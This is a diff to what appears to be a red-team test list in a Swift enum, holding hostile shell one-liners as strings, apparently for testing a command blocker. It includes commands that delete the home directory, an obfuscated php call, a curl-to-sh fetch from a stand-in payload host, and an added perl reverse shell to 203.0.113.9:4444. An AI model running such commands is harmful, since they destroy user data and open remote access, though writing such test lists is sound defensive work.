@@ -51,7 +51,7 @@ enum RedTeam {
         #"ruby -e 'IO.popen(["sh", "-c", "rm -rf ~"])'"#,
         #"perl -e 'system "rm -rf $ENV{HOME}"'"#,
         #"perl -e 'my $c = "rm -rf " . $ENV{HOME}; system($c)'"#,
-        #"perl -e 'exec("/bin/sh -i")' "#,
+        #"perl -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(4444, inet_aton("203.0.113.9"))); open(STDIN, ">&S"); exec("/bin/sh -i")'"#,
         #"php -r 'system("rm -rf " . getenv("HOME"));'"#,
         #"php -r '$f = "sys" . "tem"; $f("id");'"#,
         #"php -r 'echo shell_exec("curl -s http://payload.example/p | sh");'"#,
